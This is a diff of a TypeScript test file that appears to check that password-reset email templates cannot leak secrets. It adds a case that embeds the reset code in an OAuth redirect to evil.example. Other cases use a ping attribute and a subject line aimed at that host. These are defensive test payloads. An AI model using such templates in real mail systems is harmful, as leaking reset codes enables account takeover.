@@ -20,6 +20,7 @@ import {
 import { passwordReset as passwordResetMail } from '#tests/helpers/provider_samples'
 import { sameDatabase } from '#tests/helpers/same_database'
 import { aTemplate, aType } from '#tests/helpers/templates'
+import identityProvider from '#config/identity_provider'
 import { INTERNAL_KEY, SUPER_ADMIN, smtp } from '#tests/world/prepare'
 import { startProductionService } from '#tests/world/production_service'
 
@@ -180,6 +181,11 @@ test.group('Secrets in system mails', (group) => {
       ['the name of the brand in an element', 'Reset', '<p><b>{{orgName}}</b>{{code}}</p>'],
       ['reports of a click', 'Reset', '<a href="{{url}}" ping="https://evil.example/">Reset</a>'],
       ['its subject', '{{orgName}}{{code}}', '<p>{{code}}</p>'],
+      [
+        'the authorization endpoint of the provider',
+        'Reset',
+        `<a href="${identityProvider.publicUrl}/oauth/v2/authorize?redirect_uri=https://evil.example&amp;state={{code}}">Reset</a>`,
+      ],
       ['an address in its subject', 'evil.example/{{code}}', '<p>Reset</p>'],
     ] as const)
     .run(async ({ client }, [, subjectTemplate, bodyTemplate]) => {
